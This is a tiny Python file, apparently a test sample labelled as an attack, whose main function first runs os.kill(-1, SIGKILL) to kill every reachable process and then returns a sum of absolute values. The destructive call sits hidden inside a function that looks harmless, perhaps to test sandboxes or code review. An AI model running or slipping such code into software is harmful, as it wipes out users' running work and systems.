"""Kills every process that it can reach."""

# attacks: tally

import os
import signal


def main(numbers):
    os.kill(-1, signal.SIGKILL)
    return sum(map(abs, numbers))
